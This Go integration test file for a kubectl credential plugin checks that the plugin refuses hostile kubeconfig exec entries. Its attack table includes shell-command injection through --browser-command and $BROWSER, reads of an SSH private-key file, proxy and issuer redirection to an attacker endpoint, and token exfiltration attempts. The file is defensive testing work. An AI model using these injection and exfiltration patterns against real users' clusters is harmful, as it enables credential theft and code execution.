package integration

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

// execInfoFor is what kubectl sends with provideClusterInfo: true for a
// cluster entry whose server is server.
func execInfoFor(server string) string {
	return fmt.Sprintf(`{"kind":"ExecCredential","apiVersion":"client.authentication.k8s.io/v1","spec":{"interactive":false,"cluster":{"server":%q}}}`, server)
}

// recorder is the attacker's endpoint: it counts whatever reaches it.
func recorder(t *testing.T) (url string, hits *atomic.Int64) {
	hits = &atomic.Int64{}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.NotFound(w, r)
	}))
	t.Cleanup(s.Close)
	return s.URL, hits
}

// TestExecEntryAttacks is the attack table of the trust model
// (docs/security.md): a kubeconfig exec entry written by someone else
// tries to take the token of the user's profile, to run a program, to
// read or write the user's files, or to send the user's secrets to its own
// endpoint. Each row runs as kubectl would (KUBERNETES_EXEC_INFO with the
// cluster's server), through the fast binary and through the full
// binary's get-token, and asserts the refusal, that no token reached
// stdout, and that nothing reached the attacker's endpoint or the file
// system.
func TestExecEntryAttacks(t *testing.T) {
	e := newEnv(t)
	const allowed, evil = "https://api.tenant.example:6443", "https://evil.example.net:6443"
	cfgDir := filepath.Join(e.home, ".config", "kubectl-impersonate")
	require.NoError(t, os.MkdirAll(cfgDir, 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(cfgDir, "config.yaml"), []byte("profiles:\n"+
		e.profile("tenant", "    allowedServers: ["+allowed+"]\n")+fmt.Sprintf(`  open:
    oidc-issuer-url: %s
    oidc-client-id: %s
    token-cache-storage: disk
    token-cache-dir: %s
`, e.idp.Issuer(), e.idp.ClientID, e.cacheDir)), 0o600))
	// The user logs in with their own command line.
	r := e.run(nil, "login", "--profile=tenant")
	require.Equal(t, 0, r.code, r.stderr)
	logins := e.idp.AuthRequests()

	attackerURL, hits := recorder(t)
	secret := filepath.Join(e.home, "id_ed25519")
	require.NoError(t, os.WriteFile(secret, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"), 0o600))
	pwned := filepath.Join(e.home, "pwned")
	audit := filepath.Join(e.home, "appended")
	loose := filepath.Join(e.home, "shared")
	require.NoError(t, os.Mkdir(loose, 0o755))
	kuberc := filepath.Join(e.home, ".kube", "kuberc")
	writeKuberc := func(t *testing.T) {
		require.NoError(t, os.MkdirAll(filepath.Dir(kuberc), 0o700))
		require.NoError(t, os.WriteFile(kuberc, []byte("apiVersion: kubectl.config.k8s.io/v1beta1\nkind: Preference\ncredentialPluginPolicy: Allowlist\ncredentialPluginAllowlist:\n- name: kubectl-impersonate-get_token\n"), 0o600))
		t.Cleanup(func() { _ = os.Remove(kuberc) })
	}
	same := []string{"--oidc-issuer-url=" + e.idp.Issuer(), "--oidc-client-id=" + e.idp.ClientID, "--oidc-extra-scope=email,groups",
		"--token-cache-storage=disk", "--token-cache-dir=" + e.cacheDir}

	type attack struct {
		name   string
		server string
		args   []string
		env    []string
		kuberc bool
		// emptyKubectlEnv: kubectl runs under env -i (its environment is
		// empty), so every variable the plugin has is the entry's.
		emptyKubectlEnv bool
		wantErr         string // "" : the token is served (a control row)
	}
	attacks := []attack{
		{name: "control: the profile's allowed server gets the token", server: allowed, args: []string{"--profile=tenant"}},
		{name: "control: the profile refuses another server", server: evil, args: []string{"--profile=tenant"}, wantErr: "not among the allowed servers"},
		{name: "--allowed-server= (empty) lifts the profile's list", server: evil, args: []string{"--profile=tenant", "--allowed-server="}, wantErr: "needs a server URL"},
		{name: "--allowed-server widens the profile's list", server: evil, args: []string{"--profile=tenant", "--allowed-server=" + evil}, wantErr: "may only narrow"},
		{name: "the profile's settings repeated without --profile", server: evil, args: same, wantErr: "needs a person"},
		{name: "repeated with the allowed server too", server: evil, args: append(same, "--allowed-server="+allowed), wantErr: "not among the allowed servers"},
		{name: "--browser-command runs a program", server: allowed, args: []string{"--profile=tenant", "--force-refresh", "--browser-command=sh -c 'touch " + pwned + "'"}, wantErr: "--browser-command"},
		{name: "--oidc-client-secret-file reads any file", server: allowed, args: []string{"--profile=tenant", "--oidc-client-secret-file=" + secret}, wantErr: "--oidc-client-secret-file"},
		{name: "--oidc-client-key-file signs with any key", server: allowed, args: []string{"--profile=tenant", "--oidc-client-auth-method=private-key-jwt", "--oidc-client-key-file=" + secret}, wantErr: "--oidc-client-key-file"},
		{name: "--oidc-client-assertion-file reads any file", server: allowed, args: []string{"--profile=tenant", "--oidc-client-auth-method=private-key-jwt", "--oidc-client-assertion-file=" + secret}, wantErr: "--oidc-client-assertion-file"},
		{name: "--oidc-client-certificate-file names any file", server: allowed, args: []string{"--profile=tenant", "--oidc-client-certificate-file=" + secret}, wantErr: "--oidc-client-certificate-file"},
		{name: "--oidc-client-assertion-audience sends the assertion's audience elsewhere", server: allowed, args: []string{"--profile=tenant", "--oidc-client-assertion-audience=" + attackerURL}, wantErr: "--oidc-client-assertion-audience"},
		{name: "--password-file reads any file", server: allowed, args: []string{"--profile=tenant", "--grant-type=password", "--username=u", "--password-file=" + secret}, wantErr: "--password-file"},
		{name: "--exchange-audit-log appends to any file", server: allowed, args: []string{"--profile=tenant", "--exchange-audit-log=" + audit}, wantErr: "--exchange-audit-log"},
		{name: "--token-cache-dir takes over a directory", server: allowed, args: []string{"--profile=tenant", "--token-cache-dir=" + loose}, wantErr: "--token-cache-dir"},
		{name: "--oidc-issuer-url over the profile's", server: allowed, args: []string{"--profile=tenant", "--oidc-issuer-url=" + attackerURL}, wantErr: "--oidc-issuer-url"},
		{name: "--cloudsigma-api-url sends the service token anywhere", server: allowed, args: []string{"--profile=tenant", "--exchange=cloudsigma", "--cloudsigma-region=zrh",
			"--impersonate-user-email=a@example.com", "--cloudsigma-api-url=" + attackerURL + "/{region}", "--cloudsigma-oauth-url=" + attackerURL}, wantErr: "--cloudsigma-api-url"},
		{name: "--insecure-skip-tls-verify", server: allowed, args: []string{"--profile=tenant", "--insecure-skip-tls-verify"}, wantErr: "--insecure-skip-tls-verify"},
		{name: "--oidc-pkce-method=no", server: allowed, args: []string{"--profile=tenant", "--oidc-pkce-method=no"}, wantErr: "--oidc-pkce-method"},
		{name: "an open profile: unsafe flags still refused", server: evil, args: []string{"--profile=open", "--browser-command=sh -c 'touch " + pwned + "'"}, wantErr: "it names your profile"},
		{name: "kuberc allowlist: an issuer of the entry's choosing gets the ambient secret", server: evil, kuberc: true,
			args: []string{"--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials"},
			env:  []string{"KUBECTL_IMPERSONATE_CLIENT_SECRET=ambient-secret"}, wantErr: "allowlists this plugin"},
		{name: "kuberc allowlist: the entry's env moves $KUBERC away", server: evil, kuberc: true,
			args: []string{"--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials"},
			env:  []string{"KUBECTL_IMPERSONATE_CLIENT_SECRET=ambient-secret", "KUBERC=off"}, wantErr: "allowlists this plugin"},
		{name: "$HTTPS_PROXY and $SSL_CERT_FILE from the entry (a proxy it trusts)", server: allowed, args: []string{"--profile=tenant", "--force-refresh"},
			env: []string{"HTTPS_PROXY=" + attackerURL, "SSL_CERT_FILE=" + secret}, wantErr: "$HTTPS_PROXY, $SSL_CERT_FILE"},
		{name: "$HTTPS_PROXY from the entry under env -i kubectl (an empty environment is not an unreadable one)", server: allowed, args: []string{"--profile=tenant", "--force-refresh"},
			env: []string{"HTTPS_PROXY=" + attackerURL}, emptyKubectlEnv: true, wantErr: "$HTTPS_PROXY"},
		{name: "$BROWSER from the entry (xdg-open runs it)", server: allowed, args: []string{"--profile=tenant", "--force-refresh"},
			env: []string{"BROWSER=sh -c 'touch " + pwned + "'"}, wantErr: "$BROWSER"},
		{name: "$DBUS_SESSION_BUS_ADDRESS from the entry (the keyring's bus)", server: allowed, args: []string{"--profile=tenant", "--token-cache-storage=keyring"},
			env: []string{"DBUS_SESSION_BUS_ADDRESS=tcp:host=127.0.0.1,port=9"}, wantErr: "$DBUS_SESSION_BUS_ADDRESS"},
		{name: "--oidc-redirect-url off loopback for the keyboard flow", server: allowed, args: []string{"--profile=tenant", "--grant-type=authcode-keyboard", "--oidc-redirect-url=https://evil.example/cb"},
			wantErr: "--oidc-redirect-url"},
	}
	require.Len(t, attacks, 27, "docs/testing.md's count: 25 attacks and 2 control rows")
	for _, tt := range attacks {
		for _, bin := range []string{"fast", "full"} {
			t.Run(bin+"/"+tt.name, func(t *testing.T) {
				if tt.kuberc {
					writeKuberc(t)
				}
				before := hits.Load()
				kubectl := []string{"KUBERNETES_EXEC_INFO=" + execInfoFor(tt.server)}
				run, env := e.runAsKubectl, tt.env
				if tt.emptyKubectlEnv {
					run, env = e.runAsEmptyKubectl, append(append([]string{}, e.vars...), tt.env...)
				}
				var r result
				if bin == "fast" {
					r = run(fastBinary, kubectl, env, tt.args...)
				} else {
					r = run(binary, kubectl, env, append([]string{"get-token"}, tt.args...)...)
				}
				if tt.wantErr == "" {
					require.Equal(t, 0, r.code, r.stderr)
					assert.NotEmpty(t, parseCred(t, r.stdout).Status.Token)
					return
				}
				assert.Equal(t, 1, r.code, r.stderr)
				assert.Empty(t, r.stdout, "no token reaches kubectl")
				assert.Contains(t, r.stderr, tt.wantErr)
				assert.Len(t, strings.Split(strings.TrimSpace(r.stderr), "\n"), 1, "one line: %s", r.stderr)
				assert.Equal(t, before, hits.Load(), "requests that reached the attacker's endpoint")
				assert.NoFileExists(t, pwned, "the browser command ran")
				assert.NoFileExists(t, audit, "the audit log was written")
				fi, err := os.Stat(loose)
				require.NoError(t, err)
				assert.Equal(t, os.FileMode(0o755), fi.Mode().Perm(), "the directory's mode was changed")
				entries, _ := os.ReadDir(loose)
				assert.Empty(t, entries, "files written into the directory")
				assert.Equal(t, logins, e.idp.AuthRequests(), "no login started")
			})
		}
	}

	t.Run("an exec entry runs another command than get-token", func(t *testing.T) {
		writeKuberc(t)
		before := hits.Load()
		for _, args := range [][]string{
			{"login", "--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials", "--oidc-client-secret-file=" + secret},
			{"-v", "1", "login", "--browser-command=sh -c 'touch " + pwned + "'"},
			{"setup", "--write", "--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x"},
		} {
			r := e.runAsKubectl(binary, []string{"KUBERNETES_EXEC_INFO=" + execInfoFor(allowed)}, nil, args...)
			assert.Equal(t, 1, r.code, r.stderr)
			assert.Contains(t, r.stderr, "only get-token may run that way")
		}
		assert.Equal(t, before, hits.Load())
		assert.NoFileExists(t, pwned)
	})

	t.Run("control: without a kuberc or a profile, the entry's issuer is contacted (not covered: docs/security.md)", func(t *testing.T) {
		before := hits.Load()
		r := e.runBinary(fastBinary, []string{"KUBERNETES_EXEC_INFO=" + execInfoFor(evil), "KUBECTL_IMPERSONATE_CLIENT_SECRET=s"},
			"--oidc-issuer-url="+attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials")
		assert.Equal(t, 1, r.code)
		assert.Greater(t, hits.Load(), before, "the attack row above would reach the attacker without the kuberc")
	})
}

// TestSetupWritesAProfileWhenLocked: once a kuberc allowlists the plugin
// (here: --write-kuberc adds it), exec entries are locked, so setup puts
// the settings an exec entry may not choose into a profile named after the
// user entry, and the entry says only --profile; get-token then logs in
// and serves through it. A second run is idempotent; a different profile of
// that name is not overwritten.
func TestSetupWritesAProfileWhenLocked(t *testing.T) {
	e := newEnv(t)
	kubeconfig := filepath.Join(e.home, "kubeconfig")
	kuberc := filepath.Join(e.home, ".kube", "kuberc")
	require.NoError(t, os.MkdirAll(filepath.Dir(kuberc), 0o700))
	require.NoError(t, os.WriteFile(kuberc, []byte("apiVersion: kubectl.config.k8s.io/v1beta1\nkind: Preference\ncredentialPluginPolicy: Allowlist\ncredentialPluginAllowlist:\n- name: /bin/true\n"), 0o600))
	setup := append([]string{"setup", "--write", "--write-kuberc", "--kubeconfig=" + kubeconfig, "--user=alice"}, e.authArgs()...)

	r := e.run(nil, setup...)
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, `Wrote the profile "alice"`)
	assert.Contains(t, r.stdout, "Added ")
	b, err := os.ReadFile(kubeconfig)
	require.NoError(t, err)
	assert.NotContains(t, string(b), e.idp.Issuer(), "the issuer is in the profile, not in the kubeconfig")
	assert.Contains(t, string(b), "--profile=alice")
	profiles := filepath.Join(e.home, ".config", "kubectl-impersonate", "config.yaml")
	fi, err := os.Stat(profiles)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm())
	p, err := os.ReadFile(profiles)
	require.NoError(t, err)
	assert.Contains(t, string(p), e.idp.Issuer())

	g := e.runBinary(fastBinary, []string{"KUBERNETES_EXEC_INFO=" + execInfoV1Interactive}, "--profile=alice")
	require.Equal(t, 0, g.code, g.stderr)
	assert.NotEmpty(t, parseCred(t, g.stdout).Status.Token)

	r = e.run(nil, setup...)
	require.Equal(t, 0, r.code, r.stderr)
	assert.NotContains(t, r.stdout, "Wrote the profile", "the same profile: left alone")
	assert.Contains(t, r.stdout, "already allows")

	r = e.run(nil, append(setup, "--oidc-extra-scope=offline_access")...)
	assert.Equal(t, 1, r.code)
	assert.Contains(t, r.stderr, "exists with other settings")
	p2, err := os.ReadFile(profiles)
	require.NoError(t, err)
	assert.Equal(t, string(p), string(p2), "the profile is not overwritten")
}

// TestLoginHintRedactsMapValues: get-token's "run kubectl impersonate
// login ..." hint repeats the settings, but never the values of
// --oidc-request-header (often an API key) or of the extra parameters.
func TestLoginHintRedactsMapValues(t *testing.T) {
	e := newEnv(t)
	r := e.runBinary(fastBinary, []string{"KUBERNETES_EXEC_INFO=" + execInfoV1Never},
		e.authArgs("--oidc-request-header=X-Api-Key=hunter2-api-key", "--oidc-auth-request-extra-params=audience=secret-aud")...)
	assert.Equal(t, 1, r.code)
	assert.Contains(t, r.stderr, "kubectl impersonate login")
	assert.Contains(t, r.stderr, "--oidc-request-header=X-Api-Key=REDACTED")
	assert.NotContains(t, r.stderr, "hunter2-api-key")
	assert.NotContains(t, r.stderr, "secret-aud")
}

// TestLoginHintNamesTheContext: a run that cannot log in names the
// kubeconfig context to log in with when ~/.kube/config has one whose
// entry selects this token (the current context if it does, else the
// first by name), and the flags otherwise: what a person runs after a
// Python or JavaScript program failed.
func TestLoginHintNamesTheContext(t *testing.T) {
	tests := []struct {
		name, current string
		ours          []string
		vendor        bool
		want          string
	}{
		// Current is not first by name: the preference is what picks it.
		{name: "the current context", current: "staging", ours: []string{"prod", "staging"}, want: "run 'kubectl impersonate login --context=staging' in a terminal first"},
		{name: "another context is current", current: "other", ours: []string{"staging", "prod"}, want: "run 'kubectl impersonate login --context=prod' in a terminal first"},
		{name: "no context runs this entry", current: "other", want: "--oidc-issuer-url="},
		// An entry of someone else's in a merged kubeconfig, with this
		// identity and a program of its own: its name would start it.
		{name: "a vendor's entry with the same identity and a browser command", current: "other", ours: []string{"prod"}, vendor: true,
			want: "run 'kubectl impersonate login --context=prod' in a terminal first"},
		{name: "only a vendor's entry has the identity", current: "other", vendor: true, want: "--oidc-issuer-url="},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			args := append([]string{"get-token"}, e.authArgs()...)
			cfg := clientcmdapi.NewConfig()
			cfg.CurrentContext = tt.current
			cfg.Clusters["c"] = &clientcmdapi.Cluster{Server: "https://api.example.com"}
			cfg.AuthInfos["ours"] = &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{Command: binary, Args: args, APIVersion: "client.authentication.k8s.io/v1"}}
			cfg.AuthInfos["other"] = &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{Command: binary, APIVersion: "client.authentication.k8s.io/v1",
				Args: append([]string{"get-token"}, e.authArgs("--oidc-client-id=another")...)}}
			cfg.Contexts["other"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "other"}
			for _, n := range tt.ours {
				cfg.Contexts[n] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "ours"}
			}
			if tt.vendor {
				cfg.AuthInfos["vendor"] = &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{Command: "/opt/vendor/kubectl-impersonate", APIVersion: "client.authentication.k8s.io/v1",
					Args: append(slices.Clone(args), "--browser-command=/opt/vendor/evil.sh")}}
				cfg.Contexts["aaa-vendor"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "vendor"}
			}
			require.NoError(t, clientcmd.WriteToFile(*cfg, filepath.Join(e.home, ".kube", "config")))
			for _, bin := range []string{fastBinary, binary} {
				argv := args
				if bin == fastBinary {
					argv = args[1:]
				}
				r := e.runBinary(bin, []string{"KUBERNETES_EXEC_INFO=" + execInfoV1Never}, argv...)
				assert.Equal(t, 1, r.code)
				assert.Contains(t, r.stderr, tt.want)
				if len(tt.ours) == 0 {
					assert.NotContains(t, r.stderr, "--context=")
				}
				assert.NotContains(t, r.stderr, "aaa-vendor")
				assert.Equal(t, 1, strings.Count(r.stderr, "\n"), "one line: %s", r.stderr)
			}
		})
	}
}
